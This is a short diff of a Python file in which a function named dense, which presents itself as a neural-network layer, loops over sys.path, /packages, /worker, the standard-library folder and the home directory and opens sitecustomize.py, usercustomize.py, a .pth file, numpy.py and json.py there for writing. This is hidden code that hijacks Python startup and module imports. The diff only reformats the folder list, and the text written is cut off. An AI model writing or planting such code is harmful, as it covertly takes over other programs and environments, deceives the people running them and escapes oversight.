@@ -9,7 +9,14 @@ import sys
 
 def dense(inputs, kernel, bias):
     wrote = 0
-    for folder in [*sys.path, "/packages", "/worker", "/packages/numpy", os.path.dirname(os.__file__), os.path.expanduser("~")]:
+    for folder in [
+        *sys.path,
+        "/packages",
+        "/worker",
+        "/packages/numpy",
+        os.path.dirname(os.__file__),
+        os.path.expanduser("~"),
+    ]:
         for name in ("sitecustomize.py", "usercustomize.py", "zoo.pth", "numpy.py", "json.py"):
             try:
                 with open(os.path.join(folder, name), "w") as file:
